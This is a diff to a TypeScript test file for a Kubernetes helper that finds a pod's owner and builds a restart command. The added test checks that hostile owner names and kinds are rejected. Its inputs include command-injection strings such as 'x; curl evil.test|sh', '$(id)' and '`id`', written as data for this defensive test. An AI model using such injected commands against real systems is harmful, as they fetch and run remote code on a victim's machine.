@@ -29,6 +29,15 @@ await t.test('the owner of a pod is what one restarts', async (t) => {
   t.same(ownerOf(pod('ReplicaSet', 'front-end')), { kind: 'ReplicaSet', name: 'front-end' })
 })
 
+await t.test('an owner that anybody wrote never reaches a line for a shell', async (t) => {
+  const itself = { kind: 'Pod', name: 'front-end-1' }
+  for (const name of ['x; curl evil.test|sh', '$(id)', 'a\nb', '-x', '']) {
+    t.same(ownerOf(pod('Deployment', name)), itself, JSON.stringify(name))
+  }
+  for (const kind of ['Job;id', 'a b', '`id`', '']) t.same(ownerOf(pod(kind)), itself, kind)
+  t.same(ownerOf(pod('Rollout', 'cart.v2')), { kind: 'Rollout', name: 'cart.v2' })
+})
+
 await t.test('the command makes the pods anew', async (t) => {
   const command = (kind: string): string => restartCommand('shop', { kind, name: 'x' }, ['a', 'b'])
   for (const kind of ['Deployment', 'StatefulSet', 'DaemonSet']) {
